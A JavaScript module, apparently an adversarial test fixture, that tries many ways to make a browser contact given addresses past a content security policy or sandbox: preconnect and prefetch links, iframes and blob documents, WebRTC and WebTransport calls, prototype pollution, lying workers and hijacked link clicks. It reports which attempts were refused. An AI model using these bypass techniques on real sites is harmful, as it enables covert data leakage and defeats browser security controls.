// Stands in the place of one of the page's modules, and tries all that no content security policy governs: to
// make a browser connect in advance, and to get at a window, a document or a worker that has WebRTC and markup.
const XHTML = "http://www.w3.org/1999/xhtml";
const SHEET = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">MARKUP</xsl:template></xsl:stylesheet>`;
const container = () => document.body.appendChild(document.createElement("div"));

// Names that a browser would ask for in advance.
const NAMED = {
  "dns-prefetch": (name) => put(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: `//${name}` })),
  "preconnect": (name) => put(Object.assign(document.createElement("link"), { rel: "preconnect", href: `http://${name}` })),
  "anchor": (name) => put(Object.assign(document.createElement("a"), { href: `http://${name}/`, textContent: "x" })),
  "fetch": (name) => fetch(`http://${name}/`),
  "image": (name) => put(Object.assign(document.createElement("img"), { src: `http://${name}/` })),
  "location": (name) => (location.href = `http://${name}/`),
};

// What a browser would do by itself with each piece of markup, once it is in a document.
const BAITS = {
  preconnect: (to) => `<link rel="preconnect" href="${to}" />`,
  frame: (to) => `<iframe srcdoc="&lt;link rel=preconnect href=${to}&gt;"></iframe>`,
  embedded: (to) => `<iframe src="${blobOf(`<link rel=preconnect href=${to}>`)}"></iframe>`,
};
const blobOf = (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type }));
const tagOf = (markup) => /^<(\w+)/.exec(markup)[1];
const attributesOf = (markup) =>
  [...markup.matchAll(/(\w+)="([^"]*)"/g)].map(([, name, value]) => [name, value.replaceAll("&lt;", "<").replaceAll("&gt;", ">")]);
const withAttributes = (made, markup) => {
  for (const [name, value] of attributesOf(markup)) made.setAttribute(name, value);
  return made;
};
const put = (made) => document.body.append(made);

// Every way to make elements of markup, or an element by its name.
const MAKERS = {
  "create": (markup) => put(withAttributes(document.createElement(tagOf(markup)), markup)),
  "create-ns": (markup) => put(withAttributes(document.createElementNS(XHTML, `x:${tagOf(markup)}`), markup)),
  "create-elsewhere": (markup) =>
    put(withAttributes(document.implementation.createHTMLDocument("").createElement(tagOf(markup)), markup)),
  // Says it is harmless when asked, and another when made.
  "create-two-faced": (markup) => {
    let asked = 0;
    const made = document.createElement({ toString: () => (asked++ || !globalThis.sealed ? tagOf(markup) : "p") });
    if (made.localName === "p") throw new Error("made a harmless one");
    put(withAttributes(made, markup));
  },
  "inner": (markup) => (container().innerHTML = markup),
  "outer": (markup) => (container().outerHTML = markup),
  "adjacent": (markup) => container().insertAdjacentHTML("beforeend", markup),
  "unsafe": (markup) => container().setHTMLUnsafe(markup),
  "shadow": (markup) => (container().attachShadow({ mode: "open" }).innerHTML = markup),
  "template": (markup) => {
    const made = document.createElement("template");
    made.innerHTML = markup;
    put(made.content);
  },
  "fragment": (markup) => put(document.createRange().createContextualFragment(markup)),
  "parser": (markup) => put(document.adoptNode(new DOMParser().parseFromString(markup, "text/html").querySelector(tagOf(markup)))),
  "xml-parser": (markup) =>
    put(document.adoptNode(new DOMParser().parseFromString(markup.replace(" ", ` xmlns="${XHTML}" `), "application/xhtml+xml").documentElement)),
  "parse-unsafe": (markup) => put(document.adoptNode(Document.parseHTMLUnsafe(markup).querySelector(tagOf(markup)))),
  "html-document": (markup) => {
    const other = document.implementation.createHTMLDocument("");
    other.body.innerHTML = markup;
    put(document.adoptNode(other.body.firstChild));
  },
  "xml-document": (markup) =>
    put(withAttributes(document.adoptNode(document.implementation.createDocument(XHTML, tagOf(markup)).documentElement), markup)),
  "write-elsewhere": (markup) => {
    const other = document.implementation.createHTMLDocument("");
    other.write(`<body>${markup}`);
    other.close();
    put(document.adoptNode(other.querySelector(tagOf(markup))));
  },
  "transform": (markup) => {
    const transform = new XSLTProcessor();
    transform.importStylesheet(new DOMParser().parseFromString(SHEET.replace("MARKUP", markup.replace(" ", ` xmlns="${XHTML}" `)), "text/xml"));
    put(transform.transformToFragment(new DOMParser().parseFromString("<x/>", "text/xml"), document));
  },
  "command": (markup) => {
    const field = container();
    field.contentEditable = "true";
    field.focus();
    getSelection().selectAllChildren(field);
    document.execCommand("insertHTML", false, markup);
  },
  "custom": (markup) => {
    const Native = tagOf(markup) === "link" ? HTMLLinkElement : HTMLIFrameElement;
    const Made = class extends Native {};
    customElements.define(`x-${tagOf(markup)}-${Math.random().toString(36).slice(2)}`, Made, { extends: tagOf(markup) });
    put(withAttributes(new Made(), markup));
  },
};

// WebRTC, and the windows that could have it.
const call = (window, to) => {
  const peer = new window.RTCPeerConnection({ iceServers: [{ urls: `stun:${to}` }] });
  peer.createDataChannel("leak");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
const framed = (attributes) => Object.assign(document.createElement("iframe"), attributes);
const CALLS = {
  "rtc": (to) => call(globalThis, to),
  "turn": (to) => {
    const relay = { urls: [`turn:${to}?transport=udp`, `turn:${to}?transport=tcp`], username: "photo", credential: "x" };
    const peer = new RTCPeerConnection({ iceServers: [relay] });
    peer.createDataChannel("leak");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  "web-transport": (to) => new WebTransport(`https://${to}/`),
  "rtc-webkit": (to) => call({ RTCPeerConnection: globalThis.webkitRTCPeerConnection }, to),
  "rtc-of-frame": (to) => {
    const frame = framed({});
    put(frame);
    return call(frame.contentWindow, to);
  },
  "rtc-of-frame-in-markup": (to) => {
    const at = container();
    at.innerHTML = "<iframe></iframe>";
    return call(at.firstChild.contentWindow, to);
  },
  "rtc-of-opened": (to) => call(open("about:blank"), to),
  "rtc-in-srcdoc": (to) => put(framed({ srcdoc: `<script src="${blobOf(`(${call})(globalThis, "${to}")`, "text/javascript")}"></script>` })),
};

/** Lie to whoever trusts what all scripts share. */
function pollute() {
  const made = document.createElement("p");
  const quietly = (change) => { try { change(); } catch { /* it cannot be changed */ } };
  quietly(() => (String.prototype.toLowerCase = () => "p"));
  quietly(() => (Array.prototype.includes = Set.prototype.has = RegExp.prototype.test = () => true));
  quietly(() => (RegExp.prototype.exec = () => ["<link", "link"]));
  quietly(() => (Reflect.apply = Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => made));
  for (const name of ["link", "a", "iframe", "text/html"]) quietly(() => (Object.prototype[name] = true));
  quietly(() => (globalThis.String = () => "p"));
  quietly(() => (globalThis.Blob = class { constructor() { return null; } }));
  quietly(() => (Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true })));
  quietly(() => Object.defineProperty(Array.prototype, Symbol.iterator, { value: () => ({ next: () => ({ done: true }) }) }));
}

/** What the page calls in the module of this name. */
export function main() {
  const { Blob, Element } = globalThis;
  const { setAttribute, append } = Element.prototype;
  globalThis.hostile = {
    makers: Object.keys(MAKERS),
    baits: Object.keys(BAITS),
    calls: Object.keys(CALLS),
    /** @returns what was thrown, by way; `addresses` are [way, address] */
    async run(addresses) {
      const refused = {};
      for (const [way, to] of addresses) {
        const [maker, bait] = way.split("+");
        try {
          await (bait ? MAKERS[maker](BAITS[bait](to)) : CALLS[maker](to));
        } catch (error) {
          refused[way] = String(error);
        }
      }
      return refused;
    },
    names: Object.keys(NAMED),
    /** Have a name asked for. */
    name: (way, name) => void NAMED[way](name),
    /** The same with changed intrinsics; afterwards little works in this page any more. */
    polluted(to) {
      pollute();
      const made = document.createElement("link");
      made.setAttribute("rel", "preconnect");
      made.setAttribute("href", to);
      document.body.append(made);
    },
    /** Go to a document of one's own. */
    go(to, type) {
      const page = `<html xmlns="${XHTML}"><head><link rel="preconnect" href="${to}"/></head><body>x</body></html>`;
      location.href = URL.createObjectURL(new Blob([page], { type }));
    },
    /** The same by an address that a worker made, which has its own intrinsics and can lie about them at once. */
    goByWorker(to, lying) {
      const liar = `function Object() { return { prototype: null }; }
        Object.getOwnPropertyNames = () => []; Object.defineProperty = () => {}; Object.getPrototypeOf = () => ({});
        Object.getOwnPropertyDescriptor = () => ({ get() { return "text/javascript"; } }); Object.assign = () => ({});\n`;
      const script = `postMessage(URL.createObjectURL(new Blob(['<link rel="preconnect" href="${to}">'], { type: "text/html" })));`;
      const start = globalThis.sealed?.startWorker ?? ((text) => new Worker(blobOf(text, "text/javascript")));
      const worker = start((lying ? liar : "") + script);
      const go = ({ data }) => (location.href = data);
      worker.onmessage = go;
      const { constructor } = worker; // makes others, without limits, where it is to be had
      if (constructor) new constructor(blobOf(script, "text/javascript")).onmessage = go;
    },
    /** Have a link pressed, which makes Firefox connect. Where none can be made, get hold of the one that saves files. */
    press(to) {
      const [found, changed] = [[], []];
      const take = function (value) { found.push(this, value); };
      globalThis.navigation?.addEventListener("navigate", (event) => found.push(event.sourceElement));
      for (const name of ["href", "download"]) Object.defineProperty(HTMLAnchorElement.prototype, name, { set: take, configurable: true });
      for (const [holder, name] of [[Element, "setAttribute"], [HTMLElement, "click"], [EventTarget, "dispatchEvent"]]) {
        const real = holder.prototype[name];
        changed.push(() => (holder.prototype[name] = real)); // some drivers need it
        holder.prototype[name] = function (...given) { found.push(this); return real.apply(this, given); };
      }
      if (globalThis.sealed) globalThis.sealed.saveAs(new Blob(["x"]), { toString: take });
      else found.push(document.createElement("a"));
      for (const undo of changed) undo();
      for (const link of found.filter((one) => one instanceof HTMLAnchorElement)) {
        setAttribute.call(link, "href", to);
        append.call(document.body, link);
        for (const type of ["mouseover", "pointerdown", "mousedown"]) {
          link.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, button: 0, view: window }));
        }
      }
      return found.filter((one) => one instanceof HTMLAnchorElement).length;
    },
  };
}
